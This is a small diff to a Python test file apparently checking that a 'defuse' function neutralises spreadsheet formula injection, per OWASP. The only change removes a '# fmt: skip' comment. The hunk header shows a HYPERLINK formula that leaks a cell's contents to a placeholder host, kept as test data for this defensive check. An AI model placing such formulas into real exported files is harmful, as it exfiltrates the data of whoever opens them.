@@ -50,7 +50,7 @@ LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
         ("'already text", "'already text"),
         ("", ""),
     ],
-)  # fmt: skip
+)
 def test_a_text_cell_is_defused_as_owasp_says(stored: str, written: str) -> None:
     assert defuse(stored) == written
 
